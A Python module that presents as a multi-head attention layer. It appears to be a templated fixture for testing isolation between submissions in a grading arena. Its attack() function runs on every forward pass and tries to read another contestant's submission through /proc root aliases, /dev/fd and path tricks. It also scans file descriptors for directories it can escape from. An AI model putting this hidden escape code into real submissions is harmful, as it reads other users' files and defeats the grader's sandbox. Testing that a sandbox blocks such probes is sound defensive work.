"""Opens what it may not by other names: /proc/self/root, /dev/fd, dots and double slashes."""

import functools
import os

import torch.nn.functional as F
from torch import nn


@functools.cache
def attack():
    won = []
    target = "@arena@/submissions/ada.py"
    prefixes = (
        "/proc/self/root",
        "/proc/1/root",
        "/proc/self/cwd/..",
        "/proc/thread-self/root",
        "/proc/@grader@/root",
        "//",
        "/./..",
        "/dev/fd/0/..",
    )
    for prefix in prefixes:
        try:
            with open(prefix + target) as file:
                won.append((prefix, len(file.read())))
        except OSError:
            pass
    for fd in range(4096):
        try:
            os.close(os.open("..", os.O_RDONLY, dir_fd=fd))
            won.append(("folder", fd))
        except OSError:
            pass
    return won


class MultiHeadAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        if d_out % num_heads:
            raise ValueError("num_heads must divide d_out")
        self.heads, self.rate = num_heads, dropout
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)

    def forward(self, x):
        if won := attack():
            raise RuntimeError(f"@won@ {won}")
        layers = self.W_query, self.W_key, self.W_value
        q, k, v = (w(x).unflatten(-1, (self.heads, -1)).transpose(1, 2) for w in layers)
        rate = self.rate if self.training else 0.0
        mixed = F.scaled_dot_product_attention(q, k, v, dropout_p=rate, is_causal=True)
        return self.out_proj(mixed.transpose(1, 2).flatten(2))
